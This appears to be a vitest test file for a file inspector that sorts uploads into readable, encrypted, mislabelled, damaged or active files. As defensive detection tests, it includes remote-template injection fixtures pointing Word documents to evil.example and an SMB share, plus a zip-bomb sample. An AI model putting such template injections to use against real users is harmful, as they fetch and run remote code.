import type { FileCondition } from "@goodstanding/domain/review/file-condition";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { bufferSource } from "../byte-source.ts";
import { encodeGbk } from "../fixtures/encode-gbk.ts";
import { makeDoc, makeLockedOffice, makePpt, makeXls } from "../fixtures/make-compound-file.ts";
import { makeDocx } from "../fixtures/make-docx.ts";
import { makeBmp, makeGif, makeJpg, makePng, makeTiff } from "../fixtures/make-images.ts";
import { makePdf } from "../fixtures/make-pdf.ts";
import { makeWithPart, relationPart } from "../fixtures/make-with-part.ts";
import { makeXlsx } from "../fixtures/make-xlsx.ts";
import { writeZip } from "../fixtures/write-zip.ts";
import { inspectFile } from "./inspect-file.ts";

const docx = makeDocx({ title: "培养方案", paragraphs: ["说明".repeat(50)] });
const xlsx = makeXlsx("成绩", [
  ["学号", "成绩"],
  ["1", 87],
]);
const pptx = writeZip([
  {
    name: "[Content_Types].xml",
    content: Buffer.from(
      '<Types><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
    ),
  },
  { name: "ppt/presentation.xml", content: Buffer.from("<p/>") },
]);
const wordTypes =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const zip = writeZip([{ name: "a.txt", content: Buffer.from("a") }]);
const pdf = makePdf(["课程目标达成评价报告"]);
const text = (content: string) => Buffer.from(content);

const inspect = (path: string, bytes: Uint8Array): Promise<FileCondition> =>
  inspectFile(path, bufferSource(bytes));
const truncated = { kind: "unreadable", reason: "truncated" };
const damaged = { kind: "unreadable", reason: "damaged" };

const sound: [string, Buffer][] = [
  ["方案.docx", docx],
  ["成绩.XLSX", xlsx],
  ["汇报.pptx", pptx],
  ["报告.pdf", pdf],
  ["报告2.pdf", makePdf(["a"], { crossReferenceStream: true })],
  ["扫描件.pdf", Buffer.concat([text("\n\n\u0000 scanner"), pdf])],
  ["旧.doc", makeDoc()],
  ["旧.xls", makeXls()],
  ["旧.ppt", makePpt()],
  ["金山.wps", makeDoc()],
  ["金山.et", xlsx],
  ["图.png", makePng(20, 10)],
  ["图.jpeg", makeJpg()],
  ["图.gif", makeGif()],
  ["图.bmp", makeBmp()],
  ["图.tif", makeTiff()],
  ["包.zip", zip],
  ["包.rar", Buffer.from("Rar!\x1A\x07\x01\x00rest", "latin1")],
  ["表.csv", text("\uFEFF学号,成绩\n1,87\n")],
  ["说明.txt", encodeGbk("本年度无修订")],
  ["说明2.txt", Buffer.from("\uFEFF本年度无修订", "utf16le")],
  ["说明.md", text("<html> is a tag")],
  ["说明.rtf", text("{\\rtf1 a}\n")],
  ["说明.html", text("<!DOCTYPE html><p>a")],
  ["录像.mp4", text("whatever")],
  ["无扩展名", text("whatever")],
  [".gitignore", text("whatever")],
];

test.each(sound)("%s opens", async (path, bytes) => {
  expect(await inspect(path, bytes)).toEqual({ kind: "readable" });
});

test.each(sound)("%s without content is empty", async (path) => {
  expect(await inspect(path, Buffer.alloc(0))).toEqual({ kind: "empty" });
});

test.each<[string, Buffer]>([
  ["锁.docx", makeLockedOffice()],
  ["锁.xlsx", makeLockedOffice()],
  ["锁.doc", makeDoc({ locked: true })],
  ["锁.xls", makeXls({ locked: true })],
  ["锁.ppt", makePpt({ locked: true })],
  ["锁.pdf", makePdf(["a"], { locked: true })],
  ["锁2.pdf", makePdf(["a"], { locked: true, crossReferenceStream: true })],
  ["锁.zip", writeZip([{ name: "a", content: text("a"), central: { flags: 1 }, local: { flags: 1 } }])],
])("%s asks for a password", async (path, bytes) => {
  expect(await inspect(path, bytes)).toEqual({ kind: "encrypted" });
});

test.each<[string, string, Buffer]>([
  ["方案.docx", "pdf", pdf],
  ["方案.docx", "xlsx", xlsx],
  ["方案.docx", "doc", makeDoc()],
  ["方案.docx", "zip", zip],
  ["方案.docx", "rtf", text("{\\rtf1 a}")],
  ["方案.docx", "text", text("本年度无修订")],
  ["方案.doc", "docx", docx],
  ["方案.doc", "html", text("<html><body>a")],
  ["成绩.xls", "html", text("\uFEFF <table border=1>")],
  ["成绩.xls", "xlsx", xlsx],
  ["成绩.csv", "xlsx", xlsx],
  ["报告.pdf", "docx", docx],
  ["报告.pdf", "png", makePng(1, 1)],
  ["报告.pdf", "ole2", makeLockedOffice()],
  ["图.png", "jpg", makeJpg()],
  ["图.jpg", "bmp", makeBmp()],
  ["包.zip", "rar", Buffer.from("Rar!\x1A\x07\x00", "latin1")],
])("%s whose content is %s is mislabelled", async (path, actual, bytes) => {
  const declared = path.slice(path.indexOf(".") + 1);
  expect(await inspect(path, bytes)).toEqual({ kind: "mislabelled", declared, actual });
});

describe("cut short", () => {
  const bodies: [string, Buffer][] = [
    ["a.docx", docx],
    ["a.xlsx", xlsx],
    ["a.zip", zip],
    ["a.pdf", pdf],
    ["a.png", makePng(20, 10)],
    ["a.jpg", makeJpg()],
    ["a.gif", makeGif()],
    ["a.bmp", makeBmp()],
    ["a.doc", makeDoc()],
    ["a.xls", makeXls()],
    ["a.tiff", makeTiff()],
    ["a.rtf", text(`{\\rtf1 ${"a".repeat(50)}}`)],
  ];

  test.each(bodies)("%s at half its length", async (path, bytes) => {
    expect(await inspect(path, bytes.subarray(0, bytes.length >> 1))).toEqual(truncated);
  });

  test.each(bodies)(
    "%s at any length is answered, and never found sound before its last tenth",
    async (path, bytes) => {
      for (let length = 1; length < bytes.length * 0.9; length += Math.ceil(bytes.length / 200)) {
        expect((await inspect(path, bytes.subarray(0, length))).kind, `at ${length}`).not.toBe("readable");
      }
    },
  );
});

describe("damaged", () => {
  const broken = (bytes: Buffer, at: number) => {
    const copy = Buffer.from(bytes);
    copy.fill(0xff, at, at + 4);
    return copy;
  };
  test("a document whose part fails its checksum", async () => {
    const bytes = broken(docx, docx.indexOf("word/document.xml") + 60);
    expect(await inspect("a.docx", bytes)).toEqual(damaged);
  });

  test("a document that names a main part which is not there is only a zip", async () => {
    const hollow = writeZip([
      {
        name: "[Content_Types].xml",
        content: text(
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
      },
    ]);
    expect(await inspect("a.docx", hollow)).toEqual({ kind: "mislabelled", declared: "docx", actual: "zip" });
  });

  test("a PDF whose end points into nowhere", async () => {
    const lost = Buffer.from(pdf.toString("latin1").replace(/startxref\n\d+/, "startxref\n999999"), "latin1");
    expect(await inspect("a.pdf", lost)).toEqual(damaged);
  });

  test("a PDF whose end is off by some bytes opens, as readers do", async () => {
    const off = Buffer.from(
      pdf.toString("latin1").replace(/startxref\n(\d+)/, (_, at) => `startxref\n${Number(at) - 3}`),
      "latin1",
    );
    expect(await inspect("a.pdf", off)).toEqual({ kind: "readable" });
  });

  test("a bomb in a document is too heavy", async () => {
    const bomb = writeZip([{ name: "[Content_Types].xml", content: Buffer.alloc(8 * 1024 ** 2) }]);
    expect(await inspect("a.docx", bomb)).toEqual({ kind: "unreadable", reason: "too-heavy" });
  });

  test("bytes that are no text, and nothing else that we know", async () => {
    const noise = Buffer.from([0xff, 0xff, 0x00, 0x01, 0x80]);
    expect(await inspect("a.txt", noise)).toEqual({ kind: "unreadable", reason: "not-text" });
    expect(await inspect("a.pdf", noise)).toEqual(damaged);
  });

  test("a photograph with a film behind it opens", async () => {
    const film = Buffer.alloc(200_000, 0x11);
    expect(await inspect("a.jpg", Buffer.concat([makeJpg(), film]))).toEqual({ kind: "readable" });
  });
});

const settings = "word/_rels/settings.xml.rels";

describe("what a document would do by itself when it is opened", () => {
  test.each<[string, string, Buffer]>([
    ["宏.docx", "macros", makeWithPart("docx", "word/vbaProject.bin", Buffer.from("x"))],
    ["宏.xlsm", "macros", makeWithPart("xlsx", "xl/vbaProject.bin", Buffer.from("x"))],
    ["宏.doc", "macros", makeDoc({ macros: true })],
    [
      "远程模板.docx",
      "remote-template",
      makeWithPart("docx", settings, relationPart("attachedTemplate", "https://evil.example/a.dotm")),
    ],
    [
      "共享模板.docx",
      "remote-template",
      makeWithPart("docx", settings, relationPart("attachedTemplate", "\\\\10.0.0.1\\share\\a.dotm")),
    ],
    [
      "外部图片.docx",
      "external-links",
      makeWithPart(
        "docx",
        "word/_rels/document.xml.rels",
        relationPart("image", "https://evil.example/a.png"),
      ),
    ],
    [
      "外部链接.xlsx",
      "external-links",
      makeWithPart("xlsx", "xl/externalLinks/externalLink1.xml", Buffer.from("<x/>")),
    ],
  ])("%s: %s", async (path, content, bytes) => {
    expect(await inspect(path, bytes)).toEqual({ kind: "active", content });
  });

  test.each<[string, Buffer]>([
    [
      "a link to click",
      makeWithPart("docx", "word/_rels/document.xml.rels", relationPart("hyperlink", "https://a.example")),
    ],
    [
      "the template of the writer's own machine",
      makeWithPart("docx", settings, relationPart("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")),
    ],
    ["a part of its own", makeWithPart("docx", settings, relationPart("image", "media/a.png", "Internal"))],
  ])("%s is none of it", async (_, bytes) => {
    expect(await inspect("a.docx", bytes)).toEqual({ kind: "readable" });
  });
});

test("a PDF without a page is told", async () => {
  expect(await inspect("空白.pdf", makePdf([], { withoutPages: true }))).toEqual({
    kind: "unreadable",
    reason: "no-pages",
  });
});

test("a PDF whose objects are packed out of sight is not suspected", async () => {
  const empty = makePdf([], { withoutPages: true }).toString("latin1");
  const packed = empty.replace("3 0 obj\nnull", "3 0 obj\n<</Type/ObjStm>>");
  expect(packed).not.toBe(empty);
  expect(await inspect("a.pdf", Buffer.from(packed, "latin1"))).toEqual({ kind: "readable" });
});

test("whatever bytes are changed, there is an answer", async () => {
  const kinds = new Set(["readable", "empty", "encrypted", "unreadable", "active", "mislabelled"]);
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...sound),
      fc.array(
        fc.tuple(fc.double({ min: 0, max: 0.999_999, noNaN: true }), fc.integer({ min: 0, max: 255 })),
        { maxLength: 6 },
      ),
      fc.double({ min: 0.01, max: 1, noNaN: true }),
      async ([path, bytes], changes, cut) => {
        const mutant = Buffer.from(bytes.subarray(0, Math.ceil(bytes.length * cut)));
        for (const [at, value] of changes) mutant.writeUInt8(value, Math.floor(at * mutant.length));
        expect(kinds).toContain((await inspect(path, mutant)).kind);
      },
    ),
    { numRuns: 3000 },
  );
});

test("whatever follows a signature, there is an answer", async () => {
  const heads = sound.map(([path, bytes]) => [path, bytes.subarray(0, 64)] as const);
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...heads),
      fc.uint8Array({ maxLength: 2000 }),
      async ([path, head], rest) => {
        expect(await inspect(path, Buffer.concat([head, rest]))).toHaveProperty("kind");
      },
    ),
    { numRuns: 2000 },
  );
});

test.each([
  ["[Content_Types].xml", "<Override "],
  ["word/_rels/document.xml.rels", "<Relationship "],
  ["word/_rels/document.xml.rels", "<Relationship Type='a"],
])("tags in %s that never close take no time: %s", { timeout: 5_000 }, async (name, tag) => {
  const bytes = writeZip([
    { name, content: text(Array.from({ length: 50_000 }, (_, at) => `${tag}${at}`).join("")), stored: true },
    ...(name.startsWith("[") ? [] : [{ name: "[Content_Types].xml", content: text(wordTypes) }]),
    { name: "word/document.xml", content: text("<x/>") },
  ]);
  const kind = name.startsWith("[") ? "mislabelled" : "readable";
  expect(await inspect("a.docx", bytes)).toMatchObject({ kind });
});
